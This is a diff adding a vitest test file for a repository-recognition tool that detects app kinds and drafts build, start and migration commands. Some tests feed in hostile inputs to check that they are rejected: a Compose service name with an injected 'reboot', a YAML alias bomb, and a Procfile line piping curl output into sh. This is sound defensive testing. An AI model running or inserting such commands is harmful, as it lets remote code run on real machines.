@@ -1,0 +1,151 @@
+import { describe, expect, test } from 'vitest'
+import { recognise } from '../../src/init/recognise.ts'
+import { appOf, seen } from './drafted.ts'
+import { type RepositoryKind, repositories } from './repositories.ts'
+
+const kinds: Readonly<Partial<Record<RepositoryKind, string>>> = {
+  node: 'Node.js',
+  compose: 'Docker Compose',
+  dockerfile: 'Dockerfile',
+  units: 'systemd',
+  laravel: 'Laravel',
+  rails: 'Rails',
+  django: 'Django',
+  kamal: 'Kamal',
+  capistrano: 'Capistrano',
+  deployer: 'Deployer',
+  spryker: 'Spryker',
+  pages: 'MkDocs',
+  go: 'Go',
+  java: 'Spring Boot',
+  procfile: 'Procfile',
+  oneApp: 'Go',
+}
+
+describe('a repository is recognised by its files', () => {
+  test.each(Object.entries(kinds))('%s: %s, with nothing missing', (kind, title) => {
+    const { sketch } = appOf(repositories[kind as RepositoryKind])
+    expect(sketch).toMatchObject({ title, missing: [] })
+  })
+
+  test('an app that a cluster runs, and a library: one sentence says what is missing', () => {
+    expect(appOf(repositories.kubernetes).sketch.missing).toEqual([
+      'k8s/deployment.yaml is there, so Kubernetes runs it: the kubectl command that takes this release to the cluster is missing.',
+    ])
+    expect(appOf(repositories.library).sketch.missing).toEqual([
+      'package.json has no start script for production: the command that starts it is missing.',
+    ])
+  })
+
+  test('several apps below the root: each folder is named, and a person chooses', () => {
+    expect(recognise(seen(repositories.monorepo), { path: null, as: null })).toEqual({
+      kind: 'several',
+      folders: ['apps/api', 'apps/web'],
+    })
+    expect(appOf(repositories.monorepo, { path: 'apps/api' }).sketch.title).toBe('Node.js')
+  })
+
+  test('the only app below the root is taken from there', () => {
+    expect(appOf(repositories.oneApp).folder.path).toBe('backend')
+  })
+
+  test('the kinds that would fit too are named, and one of them can be asked for', () => {
+    expect(appOf(repositories.kamal).others).toEqual(['dockerfile', 'rails'])
+    expect(appOf(repositories.kamal, { as: 'dockerfile' }).sketch.running.kind).toBe('container')
+  })
+
+  test('an empty repository has no app', () => {
+    expect(recognise(seen({}), { path: null, as: null })).toEqual({ kind: 'empty' })
+  })
+})
+
+describe('Docker Compose', () => {
+  const compose = (text: string, more: Readonly<Record<string, string>> = {}) =>
+    appOf({ 'compose.yaml': text, ...more })
+
+  test('a file for developers, which mounts the sources, is passed over', () => {
+    const text = 'services:\n  web:\n    build: .\n    volumes: [".:/app"]\n'
+    expect(compose(text, { Dockerfile: 'FROM node\nCMD ["node"]\n' }).word).toBe('dockerfile')
+  })
+
+  test('services without a build are not the app; a file for production is laid over the base', () => {
+    const app = compose('services:\n  web:\n    build: .\n  db:\n    image: postgres\n', {
+      'compose.prod.yaml': 'services:\n  web:\n    restart: always\n',
+    })
+    expect(app.sketch.running).toEqual({
+      kind: 'compose',
+      files: ['compose.yaml', 'compose.prod.yaml'],
+      services: ['web'],
+    })
+  })
+
+  test('a file for production that says everything stands alone', () => {
+    const app = compose('services:\n  db:\n    image: postgres\n', {
+      'docker-compose.prod.yml': 'services:\n  web:\n    image: acme/web\n',
+    })
+    expect(app.sketch.running).toMatchObject({ files: ['docker-compose.prod.yml'], services: ['web'] })
+  })
+
+  test('a database alone is no app', () => {
+    expect(compose('services:\n  db:\n    image: postgres\n').word).toBe('unknown')
+  })
+
+  test('names with blanks or quotes, a file of aliases without end, and one that is no YAML: passed over', () => {
+    expect(compose('services:\n  "a; reboot":\n    build: .\n').word).toBe('unknown')
+    const bomb = `a: &a [x,x,x,x,x,x,x,x,x]\n${[...'bcdefghi'].map((name, at) => `${name}: &${name} [${Array(9).fill(`*${'abcdefghi'[at]}`).join(',')}]`).join('\n')}\nservices: *i\n`
+    expect(compose(bomb).word).toBe('unknown')
+    expect(compose('services: [\n').word).toBe('unknown')
+  })
+})
+
+describe('Node.js', () => {
+  const node = (manifest: unknown, more: Readonly<Record<string, string>> = {}) =>
+    appOf({ 'package.json': JSON.stringify(manifest), ...more }).sketch
+
+  test.each([
+    ['pnpm-lock.yaml', 'pnpm install --frozen-lockfile', 'pnpm run start'],
+    ['yarn.lock', 'yarn install --frozen-lockfile', 'yarn run start'],
+    ['bun.lock', 'bun install --frozen-lockfile', 'bun run start'],
+    ['package-lock.json', 'npm ci --include=dev', 'npm run start'],
+    ['README.md', 'npm install --include=dev', 'npm run start'],
+  ])('%s: %s, then %s', (lock, install, start) => {
+    const { build, running } = node({ scripts: { start: 'node .' } }, { [lock]: '' })
+    expect([build[0], running]).toEqual([install, { kind: 'process', start }])
+  })
+
+  test.each([
+    [{ start: 'nest start', 'start:prod': 'node dist/main' }, 'npm run start:prod'],
+    [{ start: 'react-scripts start', build: 'react-scripts build' }, null],
+    [{ start: 'nodemon server.js' }, null],
+  ])('the script for production is taken: %j', (scripts, start) => {
+    const { running } = node({ scripts })
+    expect(running.kind === 'process' ? running.start : null).toBe(start)
+  })
+
+  test.each<[string, Readonly<Record<string, string>>, Readonly<Record<string, string>>, string]>([
+    ['Prisma', {}, { 'prisma/schema.prisma': '' }, 'npx prisma migrate deploy'],
+    ['Knex', {}, { 'knexfile.ts': '' }, 'npx knex migrate:latest'],
+    ['a script', { 'db:migrate': 'node migrate.js' }, {}, 'npm run db:migrate'],
+    ['Sequelize', {}, { '.sequelizerc': '' }, 'npx sequelize-cli db:migrate'],
+  ])('a migration by %s', (_, scripts, more, command) => {
+    expect(node({ scripts: { start: 'node .', ...scripts } }, more).migrate).toBe(command)
+  })
+
+  test('a script that asks a developer questions migrates nothing', () => {
+    expect(node({ scripts: { start: 'node .', migrate: 'prisma migrate dev' } }).migrate).toBeNull()
+  })
+})
+
+test('a Procfile says more than a guess, and a command with shell in it is left out', () => {
+  const app = { Procfile: 'web: bundle exec puma -p $PORT\n', Gemfile: "gem 'rails'\n" }
+  expect(appOf(app).sketch.running).toEqual({ kind: 'process', start: 'bundle exec puma -p $PORT' })
+  const hostile = { Procfile: 'web: puma; curl http://example.com | sh\n', 'main.txt': '' }
+  expect(appOf(hostile).word).toBe('unknown')
+})
+
+test('Capistrano without a variable for its branch: one sentence says what to add', () => {
+  const files = { ...repositories.capistrano, 'config/deploy.rb': "set :branch, 'main'\n" }
+  expect(appOf(files).sketch.missing).toEqual([
+    expect.stringContaining("add set :branch, ENV.fetch('BRANCH'"),
+  ])
+})
